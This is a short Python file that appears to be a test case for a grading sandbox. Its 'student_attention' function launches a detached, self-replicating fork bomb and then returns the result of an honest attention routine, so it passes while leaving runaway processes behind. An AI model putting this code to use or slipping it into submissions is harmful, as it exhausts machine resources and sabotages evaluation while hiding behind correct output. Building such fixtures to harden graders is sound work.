"""Right, and leaves daemons of daemons that start more of themselves.

Expected: passed
"""

import contextlib
import os
import time


def student_attention(Q, K, V, mask=None):
    child = None
    with contextlib.suppress(OSError):
        child = os.fork()
    if child == 0:
        os.setsid()
        while True:
            time.sleep(0.01)
            with contextlib.suppress(OSError):
                os.fork()
    return honest(Q, K, V, mask)
